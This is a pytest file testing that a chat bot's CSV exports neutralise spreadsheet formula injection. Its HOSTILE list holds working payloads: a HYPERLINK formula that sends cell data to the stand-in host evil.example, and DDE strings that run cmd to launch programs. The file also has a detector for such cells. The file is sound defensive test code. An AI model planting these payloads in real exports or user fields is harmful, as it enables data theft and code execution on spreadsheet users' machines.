"""Exports are safe to open (issue 19, item 5): no cell of any CSV the bot writes starts
with what a spreadsheet program runs as a formula (OWASP, "CSV Injection").

The writer's table; every CSV export reachable by a command of the registry, fed hostile
display names, survey answers and practice fields; /progress csv over the real Telegram
adapter with a hostile first name; and no CSV written anywhere but the one writer."""

from __future__ import annotations

import ast
import csv
import io
import re
from pathlib import Path

import pytest

from bot.exports import csv_bytes
from handlers.surveys import engine
from storage.practices import FIELDS, PracticeRepository
from storage.surveys import Session
from tests.harness import REPO, ConsoleHarness, demo_cohort, open_console
from tests.harness_discord import open_discord
from tests.harness_telegram import open_telegram

# What a hostile participant chooses as a display name or types as an answer.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click for your certificate")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1dHYPERLINK(\"http://evil.example\")",
]
NUMBER = re.compile(r"[+-]?(\d+([.,]\d+)?|[.,]\d+)([eE][+-]?\d+)?")


def dangerous(cell: str) -> bool:
    """What a spreadsheet program could run: a formula sign first (after blanks, or its
    full-width form), or a tab or line break first; a plain number is not."""
    if NUMBER.fullmatch(cell):
        return False
    first = cell.lstrip()[:1]
    return cell[:1] in ("\t", "\r", "\n") or (bool(first) and first in "=+-@＝＋－＠")


def parse(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


# --- the writer ------------------------------------------------------------------------
@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"),
    ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
    ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\tTAB", "'\tTAB"),
    ("\r=1+1", "'\r=1+1"),
    ("\n=1+1", "'\n=1+1"),
    ("   =1+1", "'   =1+1"),
    ("＝1+1", "'＝1+1"),
    ("-", "'-"),
    # Plain numbers, as numbers or as text, are not formulas: kept.
    (-3, "-3"),
    (2.5, "2.5"),
    ("-3", "-3"),
    ("+2.5", "+2.5"),
    ("-1e5", "-1e5"),
    ("4", "4"),
    # Ordinary text, also with a formula sign further in.
    ("Ana Lima", "Ana Lima"),
    ("1+1=2", "1+1=2"),
    ("x;=1+1", "x;=1+1"),
    ("a@b.org", "a@b.org"),
    ("التعاون الثلاثي", "التعاون الثلاثي"),
    ("", ""),
    (None, ""),
    (True, "True"),
    ("'quoted'", "'quoted'"),
])
def test_the_writer_neutralises_formula_cells(value: object, written: str) -> None:
    [header, row] = parse(csv_bytes(["=head", "plain"], [[value, "x"]]))
    assert header == ["'=head", "plain"]
    assert row == [written, "x"]


def test_the_writer_quotes_text_and_leaves_numbers_bare() -> None:
    """Text quoted, so a program that splits on ";" (a French spreadsheet) keeps
    "x;=1+1" one cell; numbers bare, so they stay numbers."""
    data = csv_bytes(["n", "text"], [[-3, "x;=1+1"], [2.5, "-3"]]).decode("utf-8")
    assert data.startswith("\ufeff")
    assert data.splitlines()[1:] == ['-3,"x;=1+1"', '2.5,"-3"']


def test_no_module_writes_csv_but_the_one_writer() -> None:
    """Every export goes through bot/exports.py: nothing else imports the csv module."""
    writers = []
    for folder in ("bot", "handlers", "storage"):
        for path in sorted((REPO / folder).rglob("*.py")):
            tree = ast.parse(path.read_text(encoding="utf-8"))
            for node in ast.walk(tree):
                names = [a.name for a in node.names] if isinstance(node, ast.Import) else \
                    [node.module or ""] if isinstance(node, ast.ImportFrom) else []
                if "csv" in names:
                    writers.append(str(path.relative_to(REPO)))
    assert writers == ["bot/exports.py"]


# --- every CSV export of the registry --------------------------------------------------
def answers_for(survey_name: str, h: ConsoleHarness, n: int) -> dict[str, object]:
    """A complete response: every question answered, every text a hostile one."""
    survey = engine.survey_named(h.bot.services, survey_name)
    assert survey is not None
    answers: dict[str, object] = {}
    for k, q in enumerate(survey.questions):
        answers[q.id] = {"scale": q.low, "single": 1, "multiple": [1, 2], "yesno": "yes"}.get(
            q.kind, HOSTILE[(n + k) % len(HOSTILE)])
    return answers


async def submit_hostile(h: ConsoleHarness, survey_name: str) -> int:
    """Every member of demo submits `survey_name` with hostile text answers, through the
    repository the survey engine submits with."""
    services = h.bot.services
    survey = engine.survey_named(services, survey_name)
    assert survey is not None
    repo = engine.repository(services)
    wave = await repo.wave_for(survey_name, "demo")
    assert wave is not None and wave.status == "open"
    invited = await repo.invitations([wave.id])
    now = services.clock.timestamp()
    for n, invitation in enumerate(invited):
        answers = answers_for(survey_name, h, n)
        session = Session(wave.id, invitation.participant_id, "review", None, answers, [], now)
        await repo.save_session(session, now)
        assert await repo.submit(session, answers, anonymous=survey.anonymous,
                                 language="en", platform="console", now=now)
    return len(invited)


def argument_sets(h: ConsoleHarness) -> list[str]:
    return ["", "csv", "demo csv", *sorted(engine.surveys(h.bot.services))]


async def test_every_csv_export_of_the_registry_is_safe_to_open(tmp_path: Path) -> None:
    async with open_console(tmp_path, facilitators=["fac"], cohorts=[demo_cohort()]) as h:
        for name in HOSTILE:
            await h.send(name, "/join demo", language="en")
        for survey in sorted(engine.surveys(h.bot.services)):
            await h.send("fac", f"/survey start {survey} demo")
            assert await submit_hostile(h, survey) == len(HOSTILE)
        services = h.bot.services
        author = await services.participants.account("console", HOSTILE[0])
        assert author is not None
        await PracticeRepository(services.db).create(
            author.participant_id, "en", services.clock.now(), status="approved",
            fields={f: HOSTILE[k % len(HOSTILE)] for k, f in enumerate(FIELDS)})

        # Every command and sub-command a facilitator types, from the registry, with the
        # arguments that ask for a file.
        registry = h.bot.services.registry
        forms = [form for command in registry.commands.values()
                 for form in command.facilitator_forms()]
        assert {"progress", "gaps", "electives", "survey export", "practice export"} <= \
            set(forms)
        for form in forms:
            for args in argument_sets(h):
                await h.send("fac", f"/{form} {args}".strip())

        files = sorted((tmp_path / "exports").glob("*.csv"))
        stems = {re.sub(r"-\d{8}-\d{6}(-\d+)?$", "", f.stem) for f in files}
        assert {"progress-demo", "gaps-demo", "electives-demo", "practices",
                *(f"survey-{s}" for s in engine.surveys(services))} <= stems
        cells = [cell for f in files for row in parse(f.read_bytes()) for cell in row]
        assert [c for c in cells if dangerous(c)] == []
        # The hostile text did reach the files, neutralised, not dropped.
        for name in HOSTILE:
            assert "'" + name in cells, name


# --- over the real Telegram adapter ----------------------------------------------------
async def test_a_formula_as_telegram_first_name_is_text_in_progress_csv(tmp_path: Path
                                                                         ) -> None:
    evil = HOSTILE[0]
    async with open_telegram(tmp_path, facilitators=["fac"], cohorts=[demo_cohort()]) as tg:
        await tg.send(evil, "/join demo", language="en")
        await tg.send("\t=cmd|' /C calc'!A0", "/join demo", language="fr")
        await tg.send("fac", "/progress csv", language="en")
        [upload] = tg.fake.calls_to("sendDocument")
        rows = parse(upload.files["document"].content)
        names = sorted({row[1] for row in rows[1:]})
        assert names == ["'\t=cmd|' /C calc'!A0", "'" + evil]
        assert not [cell for row in rows for cell in row if dangerous(cell)]


async def test_a_formula_as_discord_display_name_is_text_in_progress_csv(tmp_path: Path
                                                                          ) -> None:
    evil = "@SUM(1+9)*cmd|' /C calc'!A0"  # Discord's display name: whatever they chose
    async with open_discord(tmp_path, facilitators=["fac"], cohorts=[demo_cohort()]) as dc:
        dc._users["mallory"] = dc.fake.add_user("mallory", display_name=evil)
        await dc.send("mallory", "/join demo", language="en")
        await dc.send("fac", "/progress csv", language="en")
        [attached] = [a for m in dc.fake.sent for a in m.attachments]
        rows = parse(dc.fake.cdn[int(attached["id"])].content)
        assert {row[1] for row in rows[1:]} == {"'" + evil}
        assert not [cell for row in rows for cell in row if dangerous(cell)]
